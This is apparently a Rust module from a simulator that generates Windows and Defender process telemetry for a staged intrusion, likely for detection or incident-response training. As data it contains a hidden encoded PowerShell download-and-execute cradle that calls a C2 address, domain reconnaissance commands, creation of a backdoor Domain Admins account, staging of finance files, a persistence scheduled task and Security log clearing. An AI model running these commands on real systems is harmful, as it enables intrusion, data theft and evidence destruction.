//! The processes of the intruder's desktop, which Windows and Defender both report.

use super::POWERSHELL;
use crate::cast::net::C2_IP;
use crate::cast::world::{World, seconds};
use crate::core::text::encoded_command;

/// A process of the intruder.
#[derive(Debug, Clone)]
pub(crate) struct Shell {
    /// When it began, in ticks.
    pub(crate) at: i64,
    /// Its id.
    pub(crate) pid: i64,
    /// Its image, with the path.
    pub(crate) image: &'static str,
    /// Its command line.
    pub(crate) command: String,
    /// Id of the parent.
    pub(crate) parent_pid: i64,
    /// Image of the parent, with the path.
    pub(crate) parent_image: &'static str,
}

/// Id of the desktop's explorer.exe.
pub(crate) const EXPLORER_PID: i64 = 0x1a40;
/// Id of the process that beacons and sends.
pub(crate) const POWERSHELL_PID: i64 = 0x1f2c;

const EXPLORER: &str = r"C:\Windows\explorer.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
/// Image of the process that beacons and sends.
pub(crate) const POWERSHELL_IMAGE: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD_PID: i64 = 0x1d08;

/// What the encoded command says.
pub(crate) fn script() -> String {
    format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/a.ps1')")
}

/// The command line with the script in it.
pub(crate) fn encoded_powershell() -> String {
    format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encoded_command(&script()))
}

/// The processes, in order of time.
pub(crate) fn processes(world: &World) -> Vec<Shell> {
    let start = world.at(POWERSHELL);
    let from_powershell: [(i64, &'static str, &str); 11] = [
        (41, r"C:\Windows\System32\whoami.exe", "whoami /all"),
        (66, r"C:\Windows\System32\HOSTNAME.EXE", "hostname"),
        (95, r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
        (131, r"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain"),
        (160, r"C:\Windows\System32\nltest.exe", "nltest /dclist:contoso.com"),
        (201, r"C:\Windows\System32\net.exe", r"net view \\SRV-FILE01"),
        (322, r"C:\Windows\System32\tasklist.exe", "tasklist /v"),
        (840, r"C:\Windows\System32\net.exe", "net user svc_update Upd4te!2026 /add /domain"),
        (862, r"C:\Windows\System32\net.exe", "net group \"Domain Admins\" svc_update /add /domain"),
        (
            79_020,
            r"C:\Windows\System32\Robocopy.exe",
            r"robocopy \\SRV-FILE01\Finance C:\ProgramData\upd *.xlsx *.docx /S /R:1",
        ),
        (
            79_140,
            r"C:\Windows\System32\schtasks.exe",
            "schtasks /create /tn ContosoUpdate /tr \"powershell.exe -File C:\\ProgramData\\upd\\u.ps1\" /sc hourly",
        ),
    ];
    let mut all = vec![
        Shell {
            at: start - seconds(21),
            pid: CMD_PID,
            image: CMD,
            command: r#""C:\Windows\System32\cmd.exe""#.to_string(),
            parent_pid: EXPLORER_PID,
            parent_image: EXPLORER,
        },
        Shell {
            at: start,
            pid: POWERSHELL_PID,
            image: POWERSHELL_IMAGE,
            command: encoded_powershell(),
            parent_pid: CMD_PID,
            parent_image: CMD,
        },
    ];
    all.extend((0_i64..).zip(from_powershell).map(|(index, (after, image, command))| Shell {
        at: start + seconds(after),
        pid: 0x2010 + index * 0x5c,
        image,
        command: command.to_string(),
        parent_pid: POWERSHELL_PID,
        parent_image: POWERSHELL_IMAGE,
    }));
    all.push(Shell {
        at: world.at(super::CLEARED) - seconds(1),
        pid: 0x2d94,
        image: r"C:\Windows\System32\wevtutil.exe",
        command: "wevtutil cl Security".to_string(),
        parent_pid: CMD_PID,
        parent_image: CMD,
    });
    all
}
